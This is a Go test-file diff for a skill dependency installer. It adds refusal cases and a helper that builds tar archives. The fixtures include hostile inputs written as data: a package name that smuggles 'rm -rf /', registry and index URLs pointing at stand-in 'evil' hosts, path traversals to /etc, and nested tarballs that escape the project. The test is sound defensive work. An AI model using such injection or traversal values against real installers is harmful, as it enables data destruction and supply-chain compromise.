@@ -1,6 +1,9 @@
 package installer
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
 	"context"
 	"errors"
 	"fmt"
@@ -514,15 +517,38 @@ func TestInstallDepsRefusals(t *testing.T) {
 	ctx := t.Context()
 	in, _ := newTestInstaller(t, &Options{Runner: failRunner(t)})
 	for name, files := range map[string]map[string]string{
-		"badnpm":  {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"left-pad; rm -rf /\"]\n"},
-		"badurl":  {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"https://evil.example/x.tgz\"]\n"},
-		"dashnpm": {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"--registry=http://evil\"]\n"},
-		"badpy":   {"skill.config.yaml": "dependencies:\n  python:\n    inline: [\"requests ; os_name=='nt'\"]\n"},
-		"spacepy": {"skill.config.yaml": "dependencies:\n  python:\n    inline: [\"requests evil\"]\n"},
-		"reqfile": {"skill.config.yaml": "dependencies:\n  python:\n    source: requirements.txt\n", "requirements.txt": "--index-url http://evil/simple\nrequests\n"},
-		"gitdep":  {"package.json": `{"dependencies":{"x":"git+https://github.com/a/b.git"}}`},
-		"ghdep":   {"package.json": `{"dependencies":{"x":"a/b"}}`},
-		"filedep": {"package.json": `{"dependencies":{"x":"file:../../etc"}}`},
+		"badnpm":   {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"left-pad; rm -rf /\"]\n"},
+		"badurl":   {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"https://evil.example/x.tgz\"]\n"},
+		"dashnpm":  {"skill.config.yaml": "dependencies:\n  node:\n    packages: [\"--registry=http://evil\"]\n"},
+		"badpy":    {"skill.config.yaml": "dependencies:\n  python:\n    inline: [\"requests ; os_name=='nt'\"]\n"},
+		"spacepy":  {"skill.config.yaml": "dependencies:\n  python:\n    inline: [\"requests evil\"]\n"},
+		"reqfile":  {"skill.config.yaml": "dependencies:\n  python:\n    source: requirements.txt\n", "requirements.txt": "--index-url http://evil/simple\nrequests\n"},
+		"gitdep":   {"package.json": `{"dependencies":{"x":"git+https://github.com/a/b.git"}}`},
+		"ghdep":    {"package.json": `{"dependencies":{"x":"a/b"}}`},
+		"filedep":  {"package.json": `{"dependencies":{"x":"file:../../etc"}}`},
+		"fileabs":  {"package.json": `{"dependencies":{"x":"file:/etc"}}`},
+		"filepct":  {"package.json": `{"dependencies":{"x":"file:%2e%2e/%2e%2e/etc"}}`},
+		"filehome": {"package.json": `{"dependencies":{"x":"file:~/x"}}`},
+		"filetxt":  {"package.json": `{"dependencies":{"x":"file:assets/x.txt"}}`, "assets/x.txt": "x"},
+		"filegone": {"package.json": `{"dependencies":{"x":"file:assets/none"}}`},
+		"nested": {
+			"package.json":          `{"dependencies":{"a":"file:assets/a"}}`,
+			"assets/a/package.json": `{"name":"a","version":"1.0.0","dependencies":{"b":"file:../b"}}`,
+			"assets/b/package.json": `{"name":"b","version":"1.0.0","dependencies":{"c":"file:../../../c"}}`,
+		},
+		"nestedgit": {
+			"package.json":          `{"dependencies":{"a":"file:assets/a"}}`,
+			"assets/a/package.json": `{"name":"a","version":"1.0.0","optionalDependencies":{"g":"github:a/b"}}`,
+		},
+		"workspace": {"package.json": `{"private":true,"workspaces":["../outside"]}`},
+		"tarfile": {
+			"package.json":       `{"dependencies":{"t":"file:vendor/t-1.0.0.tgz"}}`,
+			"vendor/t-1.0.0.tgz": string(tgzOf(t, map[string]string{"package/package.json": `{"name":"t","version":"1.0.0","dependencies":{"o":"file:../o"}}`})),
+		},
+		"targit": {
+			"package.json":       `{"dependencies":{"t":"file:vendor/t-1.0.0.tgz"}}`,
+			"vendor/t-1.0.0.tgz": string(tgzOf(t, map[string]string{"package/package.json": `{"name":"t","version":"1.0.0","dependencies":{"o":"git+https://example.com/o.git"}}`})),
+		},
 		"specdep": {"SKILL.md": "---\nname: specdep\ndescription: d\nmetadata:\n  install:\n    - {kind: node, package: \"-x\"}\n---\n"},
 	} {
 		if files["SKILL.md"] == "" {
@@ -541,6 +567,27 @@ func TestInstallDepsRefusals(t *testing.T) {
 	if _, err := in.InstallDeps(ctx, "../x", nil); err == nil {
 		t.Error("a bad name was accepted")
 	}
+}
+
+// tgzOf builds a gzipped tar archive of files, as npm pack would.
+func tgzOf(t testing.TB, files map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for name, data := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(data))
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
 }
 
 // TestInstallDepsPutBackFails: placing the new venv fails and so does
